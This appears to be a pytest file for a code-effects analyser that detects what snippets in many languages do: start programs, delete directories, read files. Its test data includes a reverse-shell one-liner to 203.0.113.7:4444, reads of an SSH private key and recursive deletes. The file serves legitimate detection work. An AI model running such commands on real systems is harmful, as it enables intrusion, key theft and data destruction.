"""Languages that nobody reads: what their calls surely do, and what of a whole file counts."""

from __future__ import annotations

import pytest

from bailiwick.interpret.code import effects_of_code
from bailiwick.interpret.code.foreign import is_quiet
from bailiwick.interpret.effects import Effects, RunCode, RunShell, RunWords, literal
from bailiwick.interpret.inquiry import Inquiry
from bailiwick.model.operation import Kind
from bailiwick.model.request import Place

PLACE = Place(project="/home/dev/proj", home="/home/dev")


def effects(language: str, code: str) -> Effects:
    launch = RunCode(language, literal(code), via="test")
    return effects_of_code(launch, cwd=PLACE.project, place=PLACE, inquiry=Inquiry({}))


def started(language: str, code: str) -> list[str]:
    shown = []
    for launch in effects(language, code).launches:
        if isinstance(launch, RunShell):
            shown.append(launch.text.shown())
        elif isinstance(launch, RunWords):
            shown.append(" ".join(word.shown() for word in launch.words))
    return shown


def touched(language: str, code: str, kind: Kind) -> set[str]:
    found = effects(language, code).operations
    return {operation.resource.value for operation in found if operation.kind is kind and operation.resource}


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("ocaml", 'Sys.command "prog -x y"'),
        ("haskell", 'System.Process.callCommand "prog -x y"'),
        ("julia", "run(`prog -x y`)"),
        ("groovy", '"prog -x y".execute()'),
        ("scala", 'import sys.process._; "prog -x y".!'),
        ("elixir", 'System.cmd("prog", ["-x", "y"])'),
        ("clojure", '(clojure.java.shell/sh "prog" "-x" "y")'),
        ("lisp", '(sb-ext:run-program "prog" (list "-x" "y"))'),
        ("elisp", '(shell-command "prog -x y")'),
        ("prolog", "shell('prog -x y')"),
        ("csharp", 'System.Diagnostics.Process.Start("prog","-x y")'),
        ("compiled", 'package main; func main() { exec.Command("prog", "-x", "y").Run() }'),
        ("compiled", 'int main(void) { return system("prog -x y"); }'),
    ],
)
def test_a_program_that_is_started_by_a_literal_text_is_followed(language: str, code: str) -> None:
    assert started(language, code) == ["prog -x y"]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("elixir", 'File.rm_rf!("/home/dev/x")'),
        ("kotlin", 'java.io.File("/home/dev/x").deleteRecursively()'),
        ("swift", 'try! FileManager.default.removeItem(atPath: "/home/dev/x")'),
        ("prolog", "delete_directory_and_contents('/home/dev/x')"),
        ("rust", 'std::fs::remove_dir_all("/home/dev/x")'),
        ("compiled", 'func main() { os.RemoveAll("/home/dev/x") }'),
    ],
)
def test_what_is_deleted_by_a_literal_path_is_told(language: str, code: str) -> None:
    assert "/home/dev/x" in touched(language, code, Kind.FILE_DELETE)


@pytest.mark.parametrize("code", ['(slurp "/home/dev/.ssh/id_rsa")', 'readFile "/home/dev/.ssh/id_rsa" >>= putStr'])
def test_what_is_read_by_a_literal_path_is_told(code: str) -> None:
    assert touched("other", code, Kind.FILE_READ) == {"/home/dev/.ssh/id_rsa"}


def test_a_shell_on_a_socket_is_a_reverse_shell() -> None:
    code = 'c=TCPSocket.new("203.0.113.7",4444); Process.run("sh",shell: true,input: c)'
    assert any(operation.attributes.get("reverse_shell") for operation in effects("crystal", code).operations)


def test_the_rest_of_a_one_liner_is_hidden_and_that_of_a_source_file_is_not() -> None:
    code = "compute(everything)"
    assert any(operation.attributes.get("opaque") for operation in effects("ocaml", code).operations)
    assert effects("compiled", code).operations == ()


def test_common_words_of_source_files_start_nothing() -> None:
    assert started("compiled", 't.Run("deletes what is old", check); app.start("web"); cmd("x")') == []


def test_java_is_quiet_without_a_name_that_reaches_out() -> None:
    assert is_quiet('class X { public static void main(String[] a) { System.out.println("hi"); } }')
    assert not is_quiet("class X { void x() { Runtime.getRuntime().exec(command); } }")
    assert not is_quiet("class X { void x() { java.nio.file.Files.walk(p); } }")
